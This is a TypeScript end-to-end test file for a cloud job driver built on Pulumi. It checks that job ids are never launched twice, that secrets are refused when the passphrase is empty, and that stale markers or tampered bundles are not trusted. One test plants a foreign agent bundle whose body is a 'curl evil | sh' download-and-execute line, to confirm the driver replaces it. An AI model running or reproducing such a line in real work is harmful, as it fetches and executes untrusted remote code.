/**
 * One job id, one launch (real Pulumi engine, moto, runtime none): a job id is never launched twice — not by a
 * second run on this machine, not by a second driver on another machine sharing the backend — and nothing an earlier
 * launch left under a job id (marker, status, logs) is ever taken for the new launch's outcome.
 */
import { expect } from "chai";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { GetObjectCommand, PutObjectCommand } from "@aws-sdk/client-s3";
import type { JobResult } from "../driver/run";
import { DriverSandbox, localJobConfig, startDriverSandbox } from "../sandbox/driver-sandbox";
import { scenario } from "./support/reliability";

describe("driver end to end: launch identity (real Pulumi engine, moto)", function () {
  this.timeout(10 * 60_000);
  let sandbox: DriverSandbox;
  let ok: string;
  let slow: string;
  let failing: string;
  const SUBJECT = "NDARINV0000AAAA";
  const key = (jobId: string, name: string) => `results/_cloudcompute/${jobId}/${name}`;
  const s3Text = async (k: string) => {
    try {
      return await (await sandbox.s3.send(new GetObjectCommand({ Bucket: sandbox.bucket, Key: k }))).Body!.transformToString();
    } catch (err) {
      if ((err as { name?: string }).name === "NoSuchKey") return undefined;
      throw err;
    }
  };
  const config = (name: string, script: string) =>
    sandbox.writeConfig(name, localJobConfig(sandbox, { image: "unused", runtime: "none", command: ["sh", "-c", script, "sh", "{input}", "{output}"] }));

  before(async () => {
    sandbox = await startDriverSandbox({ CLOUDCOMPUTE_POLL_MS: "300" });
    await sandbox.seed([SUBJECT]);
    ok = config("ok.yaml", 'cp "$1" "$2/t1.nii"');
    slow = config("slow.yaml", 'sleep 8; cp "$1" "$2/t1.nii"');
    failing = config("failing.yaml", "echo broken >&2; exit 4");
  });
  after(async () => {
    await sandbox?.stop();
  });

  it("refuses a job with secrets (env values, presigned URLs) while the passphrase is empty: exit 2, nothing created", async () => {
    for (const extra of [["--env", "API_TOKEN=tok-123"], ["--input", JSON.stringify({ name: "t1", url: "https://host/b/x.nii?X-Amz-Signature=abc", access: "presigned" })]]) {
      const res = await sandbox.run(["--config", ok, "--subject", SUBJECT, "--job-id", "job-no-passphrase-1", ...extra], { extraEnv: { PULUMI_CONFIG_PASSPHRASE: "" } });
      expect(res.code, res.stderr).to.equal(2);
      expect(res.stderr).to.match(/holds secrets \((container env API_TOKEN|inputs "t1" \(a presigned URL\))\).*the passphrase is empty/s);
      expect(res.stderr).to.include("export PULUMI_CONFIG_PASSPHRASE=");
      expect(res.stderr).not.to.include("tok-123");
      expect(fs.existsSync(path.join(sandbox.home, "state", ".pulumi", "stacks", "cloudcompute", "job-no-passphrase-1.json"))).to.equal(false);
      expect(fs.existsSync(path.join(sandbox.home, "jobs", "job-no-passphrase-1.json"))).to.equal(false);
    }
  });

  it("a foreign object under the agent bundle's content-addressed key is replaced by the real bundle, not trusted", async () => {
    const bundle = fs.readFileSync(sandbox.agentBundle);
    const bundleKey = `results/_cloudcompute/agent/agent-${createHash("sha256").update(bundle).digest("hex")}.js`;
    await sandbox.s3.send(new PutObjectCommand({ Bucket: sandbox.bucket, Key: bundleKey, Body: "require('child_process').exec('curl evil | sh')" }));
    const res = await sandbox.run(["--config", ok, "--subject", SUBJECT, "--json"]);
    expect(res.code, res.stderr).to.equal(0);
    expect(await s3Text(bundleKey)).to.equal(bundle.toString("utf8"));
  });

  it("refuses a job id that was launched before (exit 2), leaving the earlier job's stack and record as they were", async () => {
    const jobId = "job-reused-id-1";
    const first = await sandbox.run(["--config", ok, "--subject", SUBJECT, "--job-id", jobId, "--json"]);
    expect(first.code, first.stderr).to.equal(0);
    // The staged spec (it may hold secrets) is gone with the job; the marker and provenance stay.
    expect(await s3Text(key(jobId, "spec.json")), "spec.json after the job").to.equal(undefined);
    expect(await s3Text(key(jobId, "provenance.json"))).to.be.a("string");
    const historyBefore = sandbox.stackHistory(jobId).length;
    const recordBefore = fs.readFileSync(path.join(sandbox.home, "jobs", `${jobId}.json`), "utf8");

    const again = await sandbox.run(["--config", failing, "--subject", SUBJECT, "--job-id", jobId, "--json"]);
    expect(again.code, again.stderr).to.equal(2);
    expect(again.stderr).to.match(new RegExp(`job id "${jobId}" was used before`));
    expect(sandbox.stackHistory(jobId).length).to.equal(historyBefore);
    expect(fs.readFileSync(path.join(sandbox.home, "jobs", `${jobId}.json`), "utf8")).to.equal(recordBefore);
  });

  it("a second driver on another machine (same backend, its own job index) is refused while the first runs; the first succeeds", () =>
    scenario("fault", "two drivers", "a second driver (another machine, shared backend) on a running job id", "second: exit 2, nothing created; first: exit 0", async () => {
    const jobId = "job-two-drivers-1";
    const first = sandbox.run(["--config", slow, "--subject", SUBJECT, "--job-id", jobId, "--json"]);
    // Wait until the first driver's stack exists in the shared backend.
    const stackFile = path.join(sandbox.home, "state", ".pulumi", "stacks", "cloudcompute", `${jobId}.json`);
    for (let i = 0; i < 300 && !fs.existsSync(stackFile); i++) await new Promise((r) => setTimeout(r, 100));
    expect(fs.existsSync(stackFile), "the first driver's stack").to.equal(true);

    const otherHome = fs.mkdtempSync(path.join(os.tmpdir(), "cc-other-machine-"));
    try {
      const backend = pathToFileURL(path.join(sandbox.home, "state")).href;
      // The same subject is refused by its run lease (common/lease.ts), naming the first driver's job.
      const sameSubject = await sandbox.run(["--config", failing, "--subject", SUBJECT, "--job-id", "job-two-drivers-2", "--backend", backend, "--json"], {
        extraEnv: { CLOUDCOMPUTE_HOME: otherHome },
      });
      expect(sameSubject.code, sameSubject.stderr).to.equal(2);
      expect(sameSubject.stderr).to.include(`subject ${SUBJECT} is being run by`).and.include(`job ${jobId})`);
      // Another subject under the same job id gets past the lease: the backend's stack refuses it.
      const second = await sandbox.run(["--config", failing, "--subject", "NDARINV0000ZZZZ", "--job-id", jobId, "--backend", backend, "--json"], {
        extraEnv: { CLOUDCOMPUTE_HOME: otherHome },
      });
      expect(second.code, second.stderr).to.equal(2);
      expect(second.stderr).to.match(new RegExp(`job id "${jobId}" already has a stack`));
      expect(fs.existsSync(path.join(otherHome, "jobs", `${jobId}.json`)), "no record on the second machine").to.equal(false);
    } finally {
      fs.rmSync(otherHome, { recursive: true, force: true });
    }
    const res = await first;
    expect(res.code, res.stderr).to.equal(0);
    expect((JSON.parse(res.stdout) as JobResult).outcome).to.equal("succeeded");
    return "second refused with exit 2 (same subject: its lease; same job id: stack exists); first succeeded, exit 0";
  }));

  it("an earlier launch's success marker and logs under the job id are removed and never taken: a failing job exits 1", () =>
    scenario("fault", "stale records", "an earlier launch's success marker under the job id, this launch failing", "exit 1 (not 0); marker of this launch; stale logs removed", async () => {
    const jobId = "job-stale-marker-1";
    const stale = { apiVersion: "cloudcompute/v1", jobId, launchId: "launch-earlier-one", subject: SUBJECT, outcome: "succeeded", message: "old", finishedAt: "2026-01-01T00:00:00Z", outputs: { prefix: "s3://x/", count: 1, bytes: 1, partial: false }, timings: {} };
    for (const [name, body] of [["marker.json", JSON.stringify(stale)], ["status.json", JSON.stringify({ ...stale, phase: "done", updatedAt: "x", startedAt: "x", phases: {} })], ["bootstrap.log", "old boot"]]) {
      await sandbox.s3.send(new PutObjectCommand({ Bucket: sandbox.bucket, Key: key(jobId, name), Body: body }));
    }
    const res = await sandbox.run(["--config", failing, "--subject", SUBJECT, "--job-id", jobId, "--json"]);
    expect(res.code, res.stderr).to.equal(1);
    const result = JSON.parse(res.stdout) as JobResult;
    expect(result.reason).to.equal("container-failed");
    const marker = JSON.parse((await s3Text(key(jobId, "marker.json")))!);
    expect(marker.outcome).to.equal("failed");
    expect(marker.launchId).to.be.a("string").and.not.equal("launch-earlier-one");
    expect(await s3Text(key(jobId, "bootstrap.log")), "the earlier launch's bootstrap log").to.equal(undefined);
    return `exit ${res.code}, reason ${result.reason}; marker launchId ${marker.launchId}; stale bootstrap.log removed`;
  }));
});
